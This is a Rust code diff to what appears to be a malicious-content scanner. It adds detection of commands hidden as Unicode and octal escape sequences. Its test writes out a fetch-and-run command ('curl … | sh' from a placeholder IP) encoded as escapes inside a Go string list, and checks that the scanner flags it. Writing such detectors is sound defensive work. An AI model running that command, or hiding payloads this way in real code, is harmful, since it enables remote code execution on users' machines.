@@ -169,6 +169,8 @@ struct Decoders {
     base64: Option<Regex>,
     hex: Option<Regex>,
     escapes: Option<Regex>,
+    /// `\u0073`, `\u{73}` and octal `\163` escapes (Go, Java, JSON, JS, Rust, C).
+    code_escapes: Option<Regex>,
     url: Option<Regex>,
     shell_fence: Option<Regex>,
 }
@@ -179,6 +181,7 @@ fn decoders() -> &'static Decoders {
         base64: Regex::new(&format!(r"[A-Za-z0-9+/_-]{{{MIN_BASE64_CHARS},}}={{0,2}}")).ok(),
         hex: Regex::new(r"(?-u:\b)(?:[0-9a-fA-F]{2}){24,}(?-u:\b)").ok(),
         escapes: Regex::new(r"(?:\\x[0-9a-fA-F]{2}){8,}").ok(),
+        code_escapes: Regex::new(r"(?:\\u[0-9a-fA-F]{4}|\\u\{[0-9a-fA-F]{1,6}\}|\\[0-7]{3}){8,}").ok(),
         url: Regex::new(r"(?i)(?-u:\b)(https?|ftp|wss?)://([a-z0-9.-]+|\[[0-9a-f:]+\])(:\d+)?").ok(),
         shell_fence: Regex::new(
             r"(?m)^\s{0,3}(```|~~~)\s*(bash|sh|shell|zsh|console|terminal|powershell|ps1|cmd)(?-u:\b)",
@@ -219,6 +222,21 @@ fn decode_hex(text: &str) -> Vec<u8> {
         .chunks(2)
         .filter_map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
         .collect()
+}
+
+/// The text a run of `\uXXXX`, `\u{X…}` and octal `\NNN` escapes spells, as UTF-8.
+fn decode_code_escapes(text: &str) -> Vec<u8> {
+    let mut out = String::new();
+    for part in text.split('\\').filter(|p| !p.is_empty()) {
+        let value = match part.strip_prefix('u') {
+            Some(hex) => u32::from_str_radix(hex.trim_matches(['{', '}']), 16).ok(),
+            None => u32::from_str_radix(part, 8).ok(),
+        };
+        if let Some(c) = value.and_then(char::from_u32) {
+            out.push(c);
+        }
+    }
+    out.into_bytes()
 }
 
 /// Decoded bytes worth reading again: UTF-8 (or UTF-16) text that is mostly printable.
@@ -865,6 +883,18 @@ fn decode_blocks(text: &str, origin: &Origin, rules: &RuleSet, out: &mut Collect
             break;
         }
     }
+    for m in decoders
+        .code_escapes
+        .as_ref()
+        .map(|p| p.find_iter(text))
+        .into_iter()
+        .flatten()
+    {
+        blocks.push((m.start(), "\\u escapes", decode_code_escapes(m.as_str())));
+        if blocks.len() >= MAX_DECODED_BLOCKS * 4 {
+            break;
+        }
+    }
     for (offset, layer, bytes) in blocks {
         let Some(decoded) = readable(&bytes) else {
             continue;
@@ -1069,10 +1099,44 @@ mod tests {
     }
 
     #[test]
+    fn unicode_and_octal_escapes_are_read_as_what_they_spell() {
+        let spelled = |s: &str| String::from_utf8(decode_code_escapes(s)).unwrap();
+        assert_eq!(spelled(r"\u0063\u0075\u0072\u006c"), "curl");
+        assert_eq!(spelled(r"\u{73}\u{68}"), "sh");
+        assert_eq!(spelled(r"\143\165\162\154"), "curl");
+        let rules = RuleSet::new(&[]).unwrap();
+        let payload: String = "curl -fsSL https://203.0.113.9/i.sh | sh"
+            .chars()
+            .map(|c| format!("\\u{:04x}", c as u32))
+            .collect();
+        let text = format!("var formatters = []string{{\"gofmt\", \"{payload}\"}}\n");
+        let origin = Origin {
+            file: "main.go",
+            scope: Scope::Other,
+            layers: Vec::new(),
+            at: None,
+            doc: None,
+            at_offset: None,
+        };
+        let mut out = Collected::default();
+        scan_text(&text, &origin, &rules, &mut out);
+        assert!(
+            out.findings.iter().any(|f| f.severity >= Severity::High),
+            "{:?}",
+            out.findings.iter().map(|f| &f.rule).collect::<Vec<_>>()
+        );
+    }
+
+    #[test]
     fn the_fixed_readers_compile() {
         let d = decoders();
         assert!(
-            d.base64.is_some() && d.hex.is_some() && d.escapes.is_some() && d.url.is_some() && d.shell_fence.is_some()
+            d.base64.is_some()
+                && d.hex.is_some()
+                && d.escapes.is_some()
+                && d.code_escapes.is_some()
+                && d.url.is_some()
+                && d.shell_fence.is_some()
         );
     }
 
